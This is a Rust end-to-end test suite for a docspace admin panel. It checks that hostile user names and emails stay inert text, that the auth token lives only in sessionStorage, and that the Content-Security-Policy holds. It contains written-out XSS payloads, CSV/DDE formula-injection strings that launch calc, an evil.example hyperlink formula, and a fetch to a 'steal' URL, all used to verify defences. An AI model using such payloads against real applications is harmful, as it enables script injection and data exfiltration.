//! Attacks on the panel in a real browser: people whose names and emails are scripts, the
//! token's whereabouts, and the Content-Security-Policy.

use docspace_e2e::{
    browser_log, button, download, field, find, journey, keep_downloads, sign_in_with_key, until,
    until_count, Sim,
};
use docspace_sim::model::{EmployeeStatus, EmployeeType};
use docspace_sim::Role;
use fantoccini::{Client, Locator};
use serde_json::json;

/// Names a hostile portal user could give themselves. Any that ran would set
/// `window.__pwned`.
const HOSTILE_NAMES: [&str; 18] = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=\"window.__pwned=2\">",
    "<svg onload=\"window.__pwned=3\">",
    "javascript:window.__pwned=4",
    "\"><script>window.__pwned=5</script>",
    "&lt;b&gt;entity&lt;/b&gt; &amp;",
    "&#60;script&#62;window.__pwned=7&#60;/script&#62;",
    "\u{202E}gnp.exe Ahmed",
    "<iframe src=\"javascript:window.__pwned=9\"></iframe>",
    "{{constructor.constructor('window.__pwned=10')()}}",
    "=HYPERLINK(\"http://evil.example/\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<a href=\"javascript:window.__pwned=15\">click</a>",
    "' onmouseover='window.__pwned=16",
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=18>",
];

/// Emails with payloads (quoted local parts are valid addresses).
const HOSTILE_EMAILS: [&str; 2] = [
    "\"<svg/onload=window.__pwned=19>\"@example.com",
    "=cmd|'/C calc'!A0@example.com",
];

/// 20 hostile people in the portal (18 names, 2 emails, one name of 255 characters), all
/// with the last name "Hostile" so that a search finds them. Returns (id, name, email).
fn plant(sim: &Sim) -> Vec<(String, String, String)> {
    let mut p = sim.portal.lock().unwrap();
    let mut planted = Vec::new();
    let long = "Ж".repeat(255 - " Hostile".len());
    let mut names = HOSTILE_NAMES
        .iter()
        .map(|n| n.to_string())
        .collect::<Vec<_>>();
    names.push(long);
    names.push("Plain".into());
    for (i, user) in p
        .users
        .iter_mut()
        .skip(5)
        .filter(|u| u.employee_type == EmployeeType::User && u.status != EmployeeStatus::Pending)
        .take(20)
        .enumerate()
    {
        user.first_name = names[i].clone();
        user.last_name = "Hostile".into();
        user.status = EmployeeStatus::Active;
        if i >= 18 {
            user.email = HOSTILE_EMAILS[i - 18].to_string();
        }
        planted.push((user.id.clone(), user.display_name(), user.email.clone()));
    }
    assert_eq!(planted.len(), 20);
    assert_eq!(planted[18].1.chars().count(), 255, "a 255-character name");
    planted
}

/// Nothing a payload would do has happened on this page.
async fn assert_inert(c: &Client, where_: &str) {
    let state = c
        .execute(
            "return {
                pwned: window.__pwned === undefined ? null : window.__pwned,
                injected: document.querySelectorAll(
                    'main script, main img, main svg, main iframe, main style, main math, main a[href^=\"javascript:\" i]'
                ).length,
                hidden: getComputedStyle(document.body).display === 'none'
            }",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(
        state,
        json!({"pwned": null, "injected": 0, "hidden": false}),
        "{where_}: a payload took effect"
    );
}

async fn texts(c: &Client, css: &str) -> Vec<String> {
    let mut out = Vec::new();
    for e in c.find_all(Locator::Css(css)).await.unwrap() {
        out.push(e.text().await.unwrap());
    }
    out
}

/// The text content (not the rendered text, which trims and reorders): what is literally there.
async fn content(c: &Client, css: &str) -> Vec<String> {
    let v = c
        .execute(
            "return [...document.querySelectorAll(arguments[0])].map(e => e.textContent)",
            vec![json!(css)],
        )
        .await
        .unwrap();
    serde_json::from_value(v).unwrap()
}

/// A CSV cell that a spreadsheet would run as a formula.
fn is_formula(cell: &str) -> bool {
    let cell = cell.trim_start_matches('"');
    cell.starts_with(['=', '+', '-', '@'])
}

/// Splits a CSV line into cells (quotes as RFC 4180 writes them).
fn cells(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(ch) = chars.next() {
        match ch {
            '"' if quoted && chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            '"' => quoted = !quoted,
            ',' if !quoted => out.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    out.push(cell);
    out
}

fn assert_csv_inert(csv: &str, expect_rows: usize, what: &str) {
    let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines.len(), expect_rows + 1, "{what}: a row per person");
    for line in &lines[1..] {
        for cell in cells(line) {
            assert!(!is_formula(&cell), "{what}: a live formula in {line:?}");
        }
    }
    assert!(
        csv.contains("'=HYPERLINK"),
        "{what}: formulas are kept as text, neutralised"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_and_emails_stay_text_everywhere() {
    let sim = Sim::start(80).await;
    let planted = plant(&sim);
    let base = sim.base.clone();
    let key = sim.key(Role::Owner);
    let portal = sim.portal.clone();
    journey("hostile", move |c| async move {
        c.goto(&format!("{base}/people?q=hostile")).await.unwrap();
        sign_in_with_key(&c, &key).await;
        until_count(&c, "Showing 20 of 20 people").await;

        // The list: each name and email exactly as the portal holds it.
        let mut shown = content(&c, "table.people tbody a.name").await;
        let mut expected: Vec<String> = planted.iter().map(|p| p.1.clone()).collect();
        shown.sort();
        expected.sort();
        assert_eq!(shown, expected, "names shown literally");
        let emails = content(&c, "table.people tbody td.email").await;
        for (_, _, email) in &planted {
            assert!(emails.contains(email), "{email} shown literally");
        }
        assert_inert(&c, "the list").await;

        // The CSV export.
        keep_downloads(&c).await;
        let csv = download(&c, "Export CSV").await;
        assert_csv_inert(&csv, 20, "the list's CSV");

        // Every profile.
        for (id, name, email) in &planted {
            c.goto(&format!("{base}/people/{id}")).await.unwrap();
            let h1 = find(&c, "//main//h1[not(normalize-space(.)='Profile')]").await;
            let text = c
                .execute("return arguments[0].textContent", vec![serde_json::to_value(&h1).unwrap()])
                .await
                .unwrap();
            assert_eq!(text, json!(name), "the profile of {id}");
            let page = c.source().await.unwrap();
            assert!(!page.contains("<script>window.__pwned"), "no live script tag");
            let _ = email;
            assert_inert(&c, &format!("the profile of {id}")).await;
        }

        // The wizard, for the one whose name is an image with an onerror handler.
        let (id, name, email) = planted[1].clone();
        c.goto(&format!("{base}/lifecycle")).await.unwrap();
        find(&c, &field("Their email")).await.send_keys(&email).await.unwrap();
        find(&c, &button("Pick this account")).await.click().await.unwrap();
        let verified = find(&c, "//dd[contains(@class,'verified-name')]").await;
        assert_eq!(verified.text().await.unwrap(), name);
        assert_inert(&c, "the wizard's verify step").await;
        find(&c, &button("Continue")).await.click().await.unwrap();
        let disable = find(&c, "//section[contains(@class,'step')]//button[starts-with(normalize-space(.),'Disable ')]").await;
        assert_eq!(disable.text().await.unwrap(), format!("Disable {name}"));
        disable.click().await.unwrap();
        find(&c, &field(&format!("Type {email} to confirm"))).await.send_keys(&email).await.unwrap();
        find(&c, "//section[contains(@class,'step')]//button[starts-with(normalize-space(.),'Delete ')]")
            .await
            .click()
            .await
            .unwrap();
        find(&c, "//section[contains(@class,'receipt')]").await;
        assert_inert(&c, "the wizard's receipt").await;
        assert!(portal.lock().unwrap().user(&id).is_none());

        // Bulk offboarding of the other 19: the review, the results, the receipt.
        c.goto(&format!("{base}/people?q=hostile")).await.unwrap();
        until_count(&c, "Showing 19 of 19 people").await;
        c.find(Locator::Css("tbody tr:first-child input[type=checkbox]"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        find(&c, &button("Select all 19 matching")).await.click().await.unwrap();
        find(&c, &button("Offboard 19 selected…")).await.click().await.unwrap();
        find(&c, "//h2[normalize-space(.)='19 people will be offboarded']").await;
        let mut reviewed = content(&c, "table.leavers tbody td:first-child").await;
        let mut expected: Vec<String> = planted.iter().filter(|p| p.0 != id).map(|p| p.1.clone()).collect();
        reviewed.sort();
        expected.sort();
        assert_eq!(reviewed, expected, "the review shows the names literally");
        assert_inert(&c, "the offboarding review").await;
        find(&c, &button("Disable 19 people")).await.click().await.unwrap();
        find(&c, &field("Type 19 to confirm")).await.send_keys("19").await.unwrap();
        find(&c, &button("Delete 19 people")).await.click().await.unwrap();
        find(&c, "//p[contains(@class,'done-note') and normalize-space(.)='Finished.']").await;
        let mut results = content(&c, "table.results tbody td:first-child").await;
        results.sort();
        assert_eq!(results, expected, "the results show the names literally");
        assert_inert(&c, "the offboarding results").await;
        keep_downloads(&c).await;
        let receipt = download(&c, "Download receipt (CSV, one row per person)").await;
        assert_csv_inert(&receipt, 19, "the offboarding receipt");
        for (_, name, _) in planted.iter().filter(|p| p.0 != id && !is_formula(&p.1)) {
            assert!(
                receipt.contains(&name.replace('"', "\"\"")),
                "the receipt names {name}"
            );
        }
        let json = download(&c, "Download receipt (JSON)").await;
        let json: serde_json::Value = serde_json::from_str(&json).unwrap();
        let names: Vec<&str> = json["people"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["name"].as_str().unwrap())
            .collect();
        for name in &expected {
            assert!(names.contains(&name.as_str()), "the JSON receipt names {name} as it is");
        }
        assert_inert(&c, "after the downloads").await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_token_lives_in_session_storage_only_and_sign_out_removes_it() {
    let sim = Sim::start(40).await;
    let base = sim.base.clone();
    let key = sim.key(Role::Admin);
    journey("token", move |c| async move {
        c.goto(&format!("{base}/people")).await.unwrap();
        sign_in_with_key(&c, &key).await;
        // Use the panel a little: pages, a search, a profile, back and forth in the history.
        find(&c, &field("Search")).await.send_keys("a").await.unwrap();
        until_count_any(&c).await;
        // The search may still replace the rows under the pointer, so a click can land on
        // another element: click a name until the profile is there.
        until("a profile opens from the list", || {
            let c = c.clone();
            async move {
                if c.find(Locator::Css("h2#can-do")).await.is_ok() {
                    return true;
                }
                if let Ok(name) = c.find(Locator::Css("table.people tbody a.name")).await {
                    let _ = name.click().await;
                }
                false
            }
        })
        .await;
        c.back().await.unwrap();
        c.goto(&format!("{base}/lifecycle")).await.unwrap();
        find(&c, &field("Their email")).await;
        c.goto(&format!("{base}/offboard")).await.unwrap();
        find(&c, "//textarea[@id='pasted']").await;

        let where_ = c
            .execute(
                "const key = arguments[0];
                 const inSession = Object.keys(sessionStorage)
                     .filter(k => sessionStorage.getItem(k).includes(key));
                 const inLocal = Object.keys(localStorage)
                     .filter(k => localStorage.getItem(k).includes(key));
                 return {
                     session: inSession,
                     local: inLocal,
                     cookie: document.cookie.includes(key),
                     url: location.href.includes(key),
                     history: JSON.stringify(history.state ?? null).includes(key),
                     page: document.documentElement.outerHTML.includes(key),
                     names: window.name.includes(key),
                 }",
                vec![json!(key)],
            )
            .await
            .unwrap();
        assert_eq!(
            where_,
            json!({
                "session": ["docspace-admin.session"],
                "local": [], "cookie": false, "url": false, "history": false,
                "page": false, "names": false,
            }),
            "the token is in sessionStorage only"
        );
        let cookies = c.get_all_cookies().await.unwrap();
        assert!(
            cookies.iter().all(|k| !k.value().contains(&key)),
            "no cookie holds it"
        );
        c.execute("console.warn('console-is-read')", vec![]).await.unwrap();
        let log = browser_log(&c).await;
        assert!(
            log.iter().any(|l| l.contains("console-is-read")),
            "the console is read: {log:?}"
        );
        assert!(
            log.iter().all(|line| !line.contains(&key)),
            "the console holds no trace of it: {log:?}"
        );

        docspace_e2e::sign_out(&c).await;
        find(&c, &field("API key")).await;
        let left = c
            .execute(
                "const key = arguments[0];
                 return Object.keys(sessionStorage).concat(Object.keys(localStorage))
                     .filter(k => (sessionStorage.getItem(k) ?? localStorage.getItem(k)).includes(key))",
                vec![json!(key)],
            )
            .await
            .unwrap();
        assert_eq!(left, json!([]), "sign out removes it");
        let kept = c
            .execute(
                "return Object.keys(sessionStorage).filter(k => k.startsWith('docspace-admin.'))",
                vec![],
            )
            .await
            .unwrap();
        assert_eq!(kept, json!([]), "nor anything else of the panel's in this tab");
        // Back in the history is no way back in.
        c.back().await.unwrap();
        find(&c, &field("API key")).await;
    })
    .await;
}

async fn until_count_any(c: &Client) {
    let c = c.clone();
    until("the list answers the search", move || {
        let c = c.clone();
        async move {
            texts(&c, "p.count")
                .await
                .iter()
                .any(|t| t.starts_with("Showing"))
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_content_security_policy_allows_the_panel_and_nothing_else() {
    let sim = Sim::start(40).await;
    let base = sim.base.clone();
    let key = sim.key(Role::Owner);
    journey("csp", move |c| async move {
        c.goto(&format!("{base}/people")).await.unwrap();
        let policy = c
            .execute(
                "return document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content",
                vec![],
            )
            .await
            .unwrap();
        let policy = policy.as_str().expect("index.html carries a policy").to_string();
        for directive in [
            "default-src 'none'",
            "script-src 'self' 'wasm-unsafe-eval'",
            "connect-src 'self'",
            "base-uri 'none'",
        ] {
            assert!(policy.contains(directive), "{directive} in {policy}");
        }
        assert!(!policy.contains("unsafe-inline"), "{policy}");
        // The panel works under it.
        sign_in_with_key(&c, &key).await;
        until_count_any(&c).await;
        // Using the panel broke no rule of the policy.
        let log = browser_log(&c).await;
        let violations: Vec<&String> = log
            .iter()
            .filter(|l| l.contains("Content Security Policy"))
            .collect();
        assert!(violations.is_empty(), "{violations:?}");
        // An injected inline script does not run, and nothing can be sent to another host.
        let blocked = c
            .execute_async(
                "const done = arguments[arguments.length - 1];
                 const seen = [];
                 document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
                 const s = document.createElement('script');
                 s.textContent = 'window.__inline = 1';
                 document.body.append(s);
                 fetch('http://127.0.0.2:9/steal?t=x').then(() => 'sent', e => 'refused')
                   .then(r => setTimeout(() => done({ inline: window.__inline ?? null, fetch: r, seen }), 100));",
                vec![],
            )
            .await
            .unwrap();
        assert_eq!(blocked["inline"], json!(null), "{blocked}");
        assert_eq!(blocked["fetch"], json!("refused"), "{blocked}");
        let seen: Vec<String> = serde_json::from_value(blocked["seen"].clone()).unwrap();
        assert!(seen.contains(&"script-src-elem".to_string()), "{seen:?}");
        assert!(seen.contains(&"connect-src".to_string()), "{seen:?}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_portal_on_another_origin_is_blocked_and_the_sign_in_page_says_why() {
    let panel = Sim::start(10).await;
    let other = Sim::start(10).await;
    let base = panel.base.clone();
    let other_base = other.base.clone();
    let key = other.key(Role::Owner);
    journey("other-origin", move |c| async move {
        c.goto(&format!("{base}/sign-in")).await.unwrap();
        let portal = find(&c, &field("Portal URL")).await;
        portal.clear().await.unwrap();
        portal.send_keys(&other_base).await.unwrap();
        find(&c, &field("API key"))
            .await
            .send_keys(&key)
            .await
            .unwrap();
        find(&c, &button("Sign in")).await.click().await.unwrap();
        let why = find(
            &c,
            "//*[@id='portal-error' and contains(., 'Content-Security-Policy')]",
        )
        .await
        .text()
        .await
        .unwrap();
        assert!(why.contains(&other_base), "{why}");
        assert!(why.contains("next to the portal"), "{why}");
        // What was typed is kept.
        let typed = c
            .execute("return document.getElementById('portal').value", vec![])
            .await
            .unwrap();
        assert_eq!(typed, json!(other_base));
    })
    .await;
}

/// Issue 16: served on the portal's own address, the panel shares the browser's cookies with
/// the portal. Someone signed in to the portal there (its `asc_auth_key` cookie) makes every
/// request with a login token run as them: the panel notices that `@self` is not who signed
/// in, says so next to the email, and keeps no session that would act as the wrong person.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_portal_session_in_the_browser_is_not_taken_for_the_person_signing_in() {
    let sim = Sim::start(20).await;
    let (owner, other, others_token) = {
        let mut p = sim.portal.lock().unwrap();
        let owner = p.role_user(Role::Owner).cloned().unwrap();
        let other = p.role_user(Role::Admin).cloned().unwrap();
        let token = p.issue_token(&other.id);
        (owner, other, token)
    };
    let base = sim.base.clone();
    journey("cookie-trap", move |c| async move {
        c.goto(&format!("{base}/sign-in")).await.unwrap();
        // Signed in to the portal in another tab, as someone else.
        c.execute(
            &format!("document.cookie = 'asc_auth_key={others_token}; path=/'"),
            vec![],
        )
        .await
        .unwrap();
        find(&c, "//label[normalize-space(.)='Email and password']")
            .await
            .click()
            .await
            .unwrap();
        find(&c, &field("Email"))
            .await
            .send_keys(&owner.email)
            .await
            .unwrap();
        find(&c, &field("Password"))
            .await
            .send_keys(&owner.password)
            .await
            .unwrap();
        find(&c, &button("Sign in")).await.click().await.unwrap();
        let said = find(&c, "//p[@id='email-error']")
            .await
            .text()
            .await
            .unwrap();
        assert!(
            said.starts_with(&format!(
                "The portal answered as {} ({}), not as {}:",
                other.display_name(),
                other.email,
                owner.email
            )),
            "{said}"
        );
        let session = c
            .execute(
                "return sessionStorage.getItem('docspace-admin.session')",
                vec![],
            )
            .await
            .unwrap();
        assert_eq!(session, json!(null), "no session kept");
        assert!(
            c.current_url().await.unwrap().path().ends_with("/sign-in"),
            "still signing in"
        );
    })
    .await;
}
